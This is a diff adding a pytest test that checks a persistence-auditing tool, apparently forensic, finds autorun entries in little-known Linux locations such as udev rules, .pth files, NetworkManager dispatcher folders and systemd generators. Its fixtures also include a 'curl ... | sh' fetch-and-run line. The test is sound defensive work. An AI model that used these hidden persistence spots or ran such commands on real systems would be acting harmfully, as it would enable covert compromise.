@@ -179,6 +179,48 @@ class TestAutoruns:
         assert users["/home/alice/.bashrc"] == "alice"
         assert users["/etc/profile.d/x.sh"] == "every user"
 
+    @pytest.mark.parametrize(
+        ("path", "text", "runs"),
+        [
+            ("usr/local/lib/udev/rules.d/1.rules", 'RUN+="/bin/w"\n', "/bin/w"),
+            (
+                "home/alice/.local/lib/python3.11/site-packages/e.pth",
+                "import evil\n",
+                "import evil",
+            ),
+            ("home/alice/.local/lib/python3.12/site-packages/usercustomize.py", "x\n", "1 lines"),
+            *(
+                (f"{folder}/x", "", f"/{folder}/x")
+                for folder in (
+                    "etc/NetworkManager/dispatcher.d/pre-up.d",
+                    "usr/lib/NetworkManager/dispatcher.d/no-wait.d",
+                    "etc/network/if-down.d",
+                    "etc/networkd-dispatcher/off.d",
+                    "etc/X11/Xsession.d",
+                    "etc/systemd/user-generators",
+                    "usr/local/lib/systemd/user-environment-generators",
+                    "usr/lib/systemd/system-shutdown",
+                )
+            ),
+            (
+                "home/alice/.local/share/systemd/user/l.service",
+                "[Service]\nExecStart=/bin/l\n[Install]\nAlias=m.service\n",
+                "/bin/l",
+            ),
+        ],
+    )
+    def test_come_from_places_that_few_know(
+        self, root: Path, path: str, text: str, runs: str
+    ) -> None:
+        write(root, {path: text})
+        wants = root / "home/alice/.config/systemd/user/default.target.wants"
+        wants.mkdir(parents=True)
+        (wants / "l.service").symlink_to("../../../../.local/share/systemd/user/l.service")
+
+        rows = rows_of("persistence.autoruns", root)
+
+        assert [row["What Runs"] for row in rows if row["Path"] == f"/{path}"] == [runs]
+
     def test_show_where_links_of_a_user_lead(self, root: Path) -> None:
         alice = root / "home/alice"
         write(root, {"secret": "curl http://secret\n", "tmp/x": "curl http://y | sh\n"})
